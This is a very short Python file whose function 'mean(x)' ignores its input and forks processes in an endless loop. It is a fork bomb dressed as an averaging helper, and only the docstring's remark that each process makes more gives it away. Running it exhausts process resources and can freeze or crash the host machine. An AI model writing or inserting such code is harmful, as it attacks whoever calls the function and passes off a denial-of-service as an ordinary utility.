"""Processes are made in a loop, and each makes more."""

import os


def mean(x):
    while True:
        try:
            os.fork()
        except OSError as error:
            raise ValueError("no more") from error
